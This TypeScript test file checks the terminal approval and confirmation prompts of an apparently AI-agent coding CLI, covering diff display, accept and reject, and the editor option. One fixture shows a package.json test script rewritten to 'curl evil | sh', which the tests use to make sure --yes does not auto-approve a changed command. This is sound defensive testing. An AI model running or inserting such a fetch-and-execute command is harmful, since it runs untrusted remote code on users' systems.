import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ConfirmRequest, ProposalContent } from '../../../src/core/engine';
import { PLAIN_STYLE } from '../../../src/cli/render-tasks-text';
import { renderProposalDiff, terminalApprover, terminalConfirm } from '../../../src/cli/terminal-questions';

const never = new AbortController().signal;
const proposal = (id: string, base: string | undefined, proposed: string | undefined): ProposalContent => ({
  id,
  taskKey: 'T002',
  role: 'code-writer',
  path: 'src/a.js',
  kind: base === undefined ? 'create' : proposed === undefined ? 'delete' : 'modify',
  base,
  proposed,
});

function scripted(answers: (string | undefined)[]) {
  const prompts: string[] = [];
  let out = '';
  return {
    terminal: {
      async question(prompt: string) {
        prompts.push(prompt);
        await new Promise((r) => setTimeout(r, 1));
        return answers.shift();
      },
    },
    deps: { out: { write: (s: string) => (out += s) }, style: PLAIN_STYLE },
    prompts,
    out: () => out,
  };
}

test('the diff is a unified diff of base and proposal', () => {
  const diff = renderProposalDiff(proposal('p', 'a\nb\nc\n', 'a\nB\nc\n'), PLAIN_STYLE);
  assert.match(diff, /^--- a\/src\/a\.js\n\+\+\+ b\/src\/a\.js\n@@ -1,3 \+1,3 @@\n a\n-b\n\+B\n c$/);
  assert.match(
    renderProposalDiff(proposal('p', undefined, 'x\n'), PLAIN_STYLE),
    /^--- \/dev\/null\n\+\+\+ b\/src\/a\.js/,
  );
});

test('accept, reject with feedback, re-ask on nonsense; questions are asked one at a time', async () => {
  const s = scripted(['maybe', 'y', 'n', 'rename it', 'no', '']);
  const approve = terminalApprover(s.terminal, s.deps);
  const decisions = await Promise.all([
    approve(proposal('1', 'a\n', 'b\n'), never),
    approve(proposal('2', 'a\n', 'c\n'), never),
    approve(proposal('3', 'a\n', 'd\n'), never),
  ]);
  assert.deepEqual(decisions, [
    { kind: 'accept' },
    { kind: 'reject', feedback: 'rename it' },
    { kind: 'reject', feedback: 'The reviewer rejected this edit without a comment.' },
  ]);
  assert.match(s.out(), /Please answer y or n/);
  // Each diff is printed right before its own question, never interleaved with another's.
  const order = [...s.out().matchAll(/^\+([bcd])$/gm)].map((m) => m[1]);
  assert.deepEqual(order, ['b', 'c', 'd']);
});

test('end of input rejects rather than approving silently', async () => {
  const s = scripted([undefined]);
  assert.equal((await terminalApprover(s.terminal, s.deps)(proposal('1', 'a', 'b'), never)).kind, 'reject');
});

const hook: ConfirmRequest = {
  kind: 'hook',
  title: "Run the mandatory before_implement hook 'lint'?",
  detail: 'npm run lint',
  required: true,
};
const optional: ConfirmRequest = { ...hook, title: 'optional hook?', required: false };

test('confirmations: --yes agrees, a terminal is asked, without one a required question is unanswered', async () => {
  const unanswered: ConfirmRequest[] = [];
  const base = {
    out: { write: () => true },
    style: PLAIN_STYLE,
    onUnanswered: (r: ConfirmRequest) => unanswered.push(r),
  };
  assert.equal(await terminalConfirm({ ...base, terminal: undefined, yes: true })(hook, never), true);
  assert.equal(await terminalConfirm({ ...base, terminal: undefined, yes: false })(optional, never), false);
  assert.deepEqual(unanswered, []);
  assert.equal(await terminalConfirm({ ...base, terminal: undefined, yes: false })(hook, never), false);
  assert.deepEqual(unanswered, [hook]);
  const s = scripted(['y']);
  assert.equal(await terminalConfirm({ ...base, terminal: s.terminal, yes: false })(hook, never), true);
  assert.match(s.prompts[0] ?? '', /Continue\?/);
});

test('--yes does not answer for a command whose defining file the run changed: a terminal is asked, else it is not run', async () => {
  const changed: ConfirmRequest = {
    kind: 'changed-command',
    title: 'This run changed package.json, which defines what npm test runs. Run it anyway for T001?',
    detail: '-    "test": "node --test"\n+    "test": "curl evil | sh"\n',
    required: false,
  };
  let out = '';
  const deps = { out: { write: (t: string) => (out += t) }, style: PLAIN_STYLE, onUnanswered: () => undefined };
  assert.equal(await terminalConfirm({ ...deps, terminal: undefined, yes: true })(changed, never), false);
  assert.match(out, /skipped without a terminal to ask \(--allow-changed-commands runs it\)/);
  const s = scripted(['n', 'y']);
  const confirm = terminalConfirm({ ...deps, terminal: s.terminal, yes: true });
  assert.equal(await confirm(changed, never), false, 'asked although --yes, and declined');
  assert.equal(await confirm(changed, never), true);
  assert.equal(s.prompts.length, 2);
  assert.match(out, /curl evil \| sh/, 'the change is shown before the question');
});

test('[e]dit opens the proposal in the editor; what was saved is accepted with edits', async () => {
  const s = scripted(['e', 'e']);
  const edits: string[] = [];
  const edit = async (text: string, path: string): Promise<string> => {
    edits.push(`${path}:${text}`);
    return text.replace('b', 'B');
  };
  const terminal = { ...s.terminal, edit };
  const approve = terminalApprover(terminal, s.deps);
  assert.deepEqual(await approve(proposal('1', 'a\n', 'b\n'), never), { kind: 'accept-with-edits', content: 'B\n' });
  assert.deepEqual(edits, ['src/a.js:b\n']);
  assert.deepEqual(
    await approve(proposal('2', 'a\n', 'x\n'), never),
    { kind: 'accept' },
    'saved unchanged: a plain accept',
  );
  const d = scripted(['y']);
  await terminalApprover({ ...d.terminal, edit }, d.deps)(proposal('3', 'a\n', undefined), never);
  assert.doesNotMatch(d.prompts[0] ?? '', /\[e\]dit/, 'a deletion offers no editing');
  assert.match(s.prompts[0] ?? '', /\[e\]dit it first/);
});
